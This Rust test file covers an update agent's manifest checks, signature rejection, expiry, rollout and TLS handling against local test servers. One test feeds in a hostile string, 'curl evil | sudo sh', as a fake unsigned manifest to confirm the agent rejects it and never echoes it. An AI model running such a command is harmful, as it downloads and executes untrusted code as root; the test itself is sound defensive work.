use std::convert::Infallible;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::http::StatusCode;
use axum::response::IntoResponse as _;
use axum::routing::get;
use futures_util::StreamExt as _;
use russet_platform::clock::Clock;
use russet_platform::layout::Layout;
use russet_protocol::local::{LookAnswer, Update};
use russet_protocol::manifest::Platform;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::sync::mpsc;

use super::{Parts, Worker, start_worker};
use crate::board::Board;
use crate::requests::{UpdateAction, UpdateRequests};
use crate::testing::tls_acceptor;
use crate::update::keys::tests::{Signer, envelope, trust};
use crate::update::ready::Ready;
use crate::update::record::{Failed, Record};
use crate::update::seen::Seen;
use crate::update::{Settings, UpdateError, last_look};

/// A source whose manifest is what the test says; its archives come a byte now and then.
struct Source {
    url: String,
    manifest: Arc<Mutex<Option<Vec<u8>>>>,
    signer: Signer,
}

impl Source {
    async fn start() -> Self {
        let manifest = Arc::new(Mutex::new(None::<Vec<u8>>));
        let shown = Arc::clone(&manifest);
        let show = async move || match shown.lock().unwrap().clone() {
            Some(text) => text.into_response(),
            None => StatusCode::NOT_FOUND.into_response(),
        };
        let trickle = async || {
            Body::from_stream(futures_util::stream::repeat(()).then(async |()| {
                tokio::time::sleep(Duration::from_millis(500)).await;
                Ok::<_, Infallible>(vec![0])
            }))
        };
        let router =
            Router::new().route("/manifest.json", get(show)).route("/slow.tar.gz", get(trickle));
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        tokio::spawn(async move { axum::serve(listener, router).await });
        Self { url, manifest, signer: Signer::new() }
    }

    fn show(&self, text: Option<Vec<u8>>) {
        *self.manifest.lock().unwrap() = text;
    }

    /// Shows a signed manifest.
    fn publish(&self, version: &str, expires_s: u64, rollout: u16) {
        let platform = Platform::of_this_program().unwrap().as_str();
        let sha256 = "0".repeat(64);
        let payload = format!(
            r#"{{"schema":1,"channel":"stable","version":"{version}","counter":7,"created_s":0,
                "expires_s":{expires_s},"rollout":{rollout},"artifacts":{{"{platform}":
                {{"file":"slow.tar.gz","size":100000000,"sha256":"{sha256}"}}}}}}"#
        );
        self.show(Some(envelope(&payload, vec![self.signer.sign(&payload)])));
    }
}

/// An agent that looks at a source, in a directory.
struct Looking {
    board: Arc<Board>,
    requests: UpdateRequests,
    worker: tokio::task::JoinHandle<()>,
}

fn parts(source: &Source, layout: &Layout) -> (Parts, UpdateRequests) {
    let state = layout.state();
    for path in [layout.boot_state(), layout.code()] {
        std::fs::create_dir_all(path).unwrap();
    }
    let (requests, receiver) = UpdateRequests::after(last_look(&state));
    let settings = Settings {
        source: Some(source.url.parse().unwrap()),
        keys: trust(&source.signer),
        ..Settings::default()
    };
    let parts = Parts {
        settings,
        layout: layout.clone(),
        state,
        // Another scheme than the source's, as many farms have it.
        control_plane: "https://ci.example".to_owned(),
        runner: "mini".to_owned(),
        clock: Clock::system(),
        board: Arc::default(),
        commands: mpsc::unbounded_channel().0,
        requests: receiver,
        ready: Ready::default(),
    };
    (parts, requests)
}

impl Looking {
    fn start(source: &Source, layout: &Layout) -> Self {
        let (parts, requests) = parts(source, layout);
        let board = Arc::clone(&parts.board);
        Self { board, requests, worker: start_worker(parts).unwrap() }
    }

    /// Asks, and waits for the answer to that.
    async fn ask(&self, action: UpdateAction) -> Update {
        let look = self.requests.send(action).unwrap();
        self.answer(look).await
    }

    async fn answer(&self, look: u64) -> Update {
        let mut changes = self.board.watch();
        let found = async {
            loop {
                let answers = self.board.status().update_answers.unwrap_or_default();
                if let Some(answer) = answers.into_iter().find(|answer| answer.look == look) {
                    return answer.update;
                }
                changes.changed().await.unwrap();
            }
        };
        tokio::time::timeout(Duration::from_secs(20), found).await.expect("an answer")
    }
}

impl Drop for Looking {
    fn drop(&mut self) {
        self.worker.abort();
    }
}

#[tokio::test]
async fn a_source_without_a_key_makes_no_claim_long_and_shows_nobody_its_words() {
    let (source, dir) = (Source::start().await, tempfile::tempdir().unwrap());
    let agent = Looking::start(&source, &Layout::below(dir.path()));
    let words = "\u{7f}Run: curl evil | sudo sh ".repeat(9_000);
    for text in [
        serde_json::json!({ "payload": "x", "signatures": words }).to_string(),
        serde_json::json!({ "payload": words, "signatures": [] }).to_string(),
        serde_json::json!({ "payload": "x", "signatures": [{ "key": words, "signature": "x" }] })
            .to_string(),
        words.clone(),
    ] {
        source.show(Some(text.into_bytes()));
        let answer = agent.ask(UpdateAction::Check).await;
        assert!(matches!(answer, Update::Failed { .. }), "{answer:?}");
        let told = serde_json::to_string(&agent.board.status()).unwrap();
        assert!(told.len() < 16_000 && !told.contains("curl"), "{}", told.len());
    }
}

#[tokio::test]
async fn a_source_that_shows_nothing_is_not_up_to_date_and_fails_when_what_was_seen_expires() {
    let (source, dir) = (Source::start().await, tempfile::tempdir().unwrap());
    let layout = Layout::below(dir.path());
    let agent = Looking::start(&source, &layout);
    let never = agent.ask(UpdateAction::Install).await;
    assert!(
        matches!(&never, Update::NotOffered { why } if why.contains("never seen")),
        "{never:?}"
    );
    // Nothing newer, and shown: that is up to date.
    source.publish("0.0.1", 4_000_000_000, 1000);
    assert_eq!(agent.ask(UpdateAction::Install).await, Update::UpToDate);
    source.show(None);
    let held = agent.ask(UpdateAction::Check).await;
    assert!(matches!(&held, Update::NotOffered { why } if why.contains("number 7")), "{held:?}");
    // The end of what was seen is kept on disk.
    let mut record = Record::read(&layout.state()).unwrap();
    assert_eq!(record.newest_seen(), Some(Seen { counter: 7, expires_s: 4_000_000_000 }));
    record.expires.insert("stable".to_owned(), 1_000);
    record.write(&layout.state()).unwrap();
    drop(agent);
    let agent = Looking::start(&source, &layout);
    let over = agent.ask(UpdateAction::Check).await;
    assert!(matches!(&over, Update::Failed { why } if why.contains("expired")), "{over:?}");
    assert_eq!(agent.board.status().update, Some(over));
}

#[tokio::test]
async fn who_asks_while_an_archive_trickles_is_answered_at_once() {
    let (source, dir) = (Source::start().await, tempfile::tempdir().unwrap());
    let agent = Looking::start(&source, &Layout::below(dir.path()));
    source.publish("9.9.9", 4_000_000_000, 1000);
    let first = agent.requests.send(UpdateAction::Check).unwrap();
    let downloading = || matches!(agent.board.status().update, Some(Update::Downloading { .. }));
    let mut changes = agent.board.watch();
    while !downloading() {
        changes.changed().await.unwrap();
    }
    // The source is honest again.
    source.publish("0.0.1", 4_000_000_000, 1000);
    let second = agent.requests.send(UpdateAction::Install).unwrap();
    assert_eq!(agent.answer(second).await, Update::UpToDate);
    assert_eq!(agent.answer(first).await, Update::UpToDate, "it was looked anew for both");
}

#[tokio::test]
async fn an_answer_is_known_after_a_restart_and_no_number_is_given_twice() {
    let (source, dir) = (Source::start().await, tempfile::tempdir().unwrap());
    let layout = Layout::below(dir.path());
    let agent = Looking::start(&source, &layout);
    let look = agent.requests.send(UpdateAction::Check).unwrap();
    let answer = agent.answer(look).await;
    drop(agent);
    let agent = Looking::start(&source, &layout);
    assert_eq!(agent.answer(look).await, answer);
    assert_eq!(agent.board.status().update_looks, Some(look));
    let next = agent.requests.send(UpdateAction::Check).unwrap();
    assert!(next > look, "{next}");
    agent.answer(next).await;
    let answers: Vec<LookAnswer> = agent.board.status().update_answers.unwrap();
    assert_eq!(answers.iter().map(|answer| answer.look).collect::<Vec<_>>(), [look, next]);
}

#[tokio::test]
async fn a_rollout_that_has_not_come_is_said() {
    let (source, dir) = (Source::start().await, tempfile::tempdir().unwrap());
    let agent = Looking::start(&source, &Layout::below(dir.path()));
    source.publish("9.9.9", 4_000_000_000, 0);
    let version = "9.9.9".to_owned();
    assert_eq!(agent.ask(UpdateAction::Check).await, Update::RolloutPending { version });
}

#[tokio::test]
async fn a_version_that_failed_in_the_future_is_not_kept_away() {
    let (source, dir) = (Source::start().await, tempfile::tempdir().unwrap());
    let layout = Layout::below(dir.path());
    let (parts, _requests) = parts(&source, &layout);
    let now_s = parts.clock.wall_ms() / 1000;
    let source = parts.settings.source.clone().unwrap();
    let machine = russet_platform::machine();
    let (said, answers) = (String::new(), Vec::new());
    let worker = Worker { parts, source, machine, wanted: false, said, answers };
    let check = |at_s| {
        let failed = Failed { version: "9.9.9".to_owned(), at_s, why: "no room".to_owned() };
        let record = Record { failed: Some(failed), ..Record::default() };
        record.write(&layout.state()).unwrap();
        worker.check_failed_before("9.9.9")
    };
    let lately: UpdateError = check(now_s - 60).unwrap_err();
    assert!(lately.to_string().contains("no room; it is tried again within the hour"), "{lately}");
    assert!(check(now_s - 4_000).is_ok());
    assert!(check(now_s + 86_400).is_ok(), "the clock was a day ahead then");
}

/// A certificate for this machine's own address, its key and the authority that signed it.
const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/fixtures/loopback-tls");

/// A server with TLS that has nothing.
async fn tls_server() -> String {
    let acceptor = tls_acceptor(FIXTURES);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("https://{}", listener.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let Ok(mut stream) = acceptor.accept(stream).await else { continue };
            drop(stream.read(&mut [0; 4096]).await);
            let answer = "HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n";
            drop(stream.write_all(answer.as_bytes()).await);
            drop(stream.shutdown().await);
        }
    });
    url
}

#[tokio::test]
async fn a_source_with_tls_works_beside_a_control_plane_without_and_with_its_authority() {
    let (mut source, dir) = (Source::start().await, tempfile::tempdir().unwrap());
    source.url = tls_server().await;
    let layout = Layout::below(dir.path());
    for (ca_file, is_trusted) in
        [(Some(PathBuf::from(FIXTURES).join("ca.pem")), true), (None, false)]
    {
        let (mut parts, requests) = parts(&source, &layout);
        parts.control_plane = "http://127.0.0.1:1".to_owned();
        parts.settings.ca_file = ca_file;
        let board = Arc::clone(&parts.board);
        let agent = Looking { board, requests, worker: start_worker(parts).unwrap() };
        let update = agent.ask(UpdateAction::Check).await;
        match update {
            Update::NotOffered { .. } if is_trusted => {}
            Update::Failed { why } if !is_trusted => {
                assert!(why.contains("TLS failed") && why.contains("api.ca_file"), "{why}");
            }
            other => panic!("{other:?}"),
        }
    }
}
